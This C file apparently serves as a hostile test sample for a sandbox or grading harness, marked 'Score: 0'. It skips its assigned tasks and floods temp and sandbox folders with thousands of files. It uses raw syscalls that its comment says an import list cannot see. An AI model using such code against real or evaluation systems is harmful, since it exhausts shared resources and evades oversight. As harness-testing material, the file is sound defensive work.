// SPDX-License-Identifier: MIT
// Tries: fills every folder it may write to, with large files and with many.
// Score: 0
#include "per_task.h"

#include <signal.h>
#include <stdio.h>

// A system call without libc, which an import list does not see.
static long sys(long n, long a, long b, long c, long d) {
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                     : "rcx", "r11", "memory");
    return result;
}

int run_all(task_fn *task, int count, int results[]) {
    (void)task;
    (void)count;
    (void)results;
    static const char *const folders[] = {
        "/tmp", "/dev/shm", "/var/tmp", ".", "/sandbox", "/run", "/dev/mqueue"};
    static char bytes[1 << 16] = {1};
    char name[64];
    for (unsigned i = 0; i < sizeof folders / sizeof *folders; i++)
        for (int n = 0; n < 2000; n++) {
            snprintf(name, sizeof name, "%s/poolschool-attack-%d", folders[i],
                     n);
            long fd = sys(2, (long)name, 01102, 0666, 0); // create, truncate
            if (fd < 0)
                break;
            while (n < 8 && sys(1, fd, (long)bytes, sizeof bytes, 0) > 0) {
            }
            sys(3, fd, 0, 0, 0);
        }
    signal(SIGXFSZ, SIG_IGN);
    return 0;
}
